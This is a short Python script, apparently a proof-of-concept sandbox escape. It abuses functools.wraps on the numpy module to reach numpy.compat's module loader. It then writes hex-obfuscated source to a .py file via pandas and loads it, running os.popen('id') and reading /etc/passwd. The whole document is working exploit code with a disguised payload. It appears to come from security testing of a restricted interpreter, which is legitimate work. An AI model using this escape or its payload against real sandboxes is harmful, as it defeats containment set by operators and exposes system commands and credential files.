# source: numpy 1.24 numpy/compat/py3k.py npy_load_module (SourceFileLoader(name, fn).load_module()); CPython functools.update_wrapper copies __dict__; README allows @functools.wraps(x) above a def
# family: @functools.wraps(module) on a def turns a module's globals into plain function attributes (chain no longer rooted at a module) + numpy.compat loader not in the table
# goal: write a .py file in the script's dir, load it as a module -> arbitrary code: os.popen('id'), open('/etc/passwd')
import functools
import json
import numpy as np
import pandas as pd


@functools.wraps(np)
def n():
    return 0


src = bytes.fromhex("696d706f7274206f730a52203d206f732e706f70656e2827696427292e726561642829202b206f70656e28272f6574632f70617373776427292e7265616428295b3a36305d0a").decode()
pd.Series(src.split(chr(10))).to_csv("sxmod322.py", index=False, header=False, sep="\t")
m = n.compat.npy_load_module("sxmod322", "sxmod322.py")
print(json.dumps({"evidence": m.R}))
